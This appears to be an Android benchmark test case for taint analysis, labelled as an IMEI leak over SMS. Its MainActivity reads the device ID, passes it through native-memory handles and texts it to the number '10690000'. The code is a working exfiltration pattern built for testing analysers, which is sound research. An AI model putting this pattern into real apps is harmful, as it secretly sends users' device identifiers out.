// about       A number stands for a copy in native memory; the text of that number is sent.
// leak        DEV_IMEI sms
// native      HandleNumber_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("HandleNumber_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    long device = keep(String.valueOf(phone.getDeviceId()));
    long screen = keep("main");
    // The number decides.
    String text = text(device);
    release(device);
    release(screen);
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private static native long keep(String text);

  private static native String text(long handle);

  private static native void release(long handle);
}
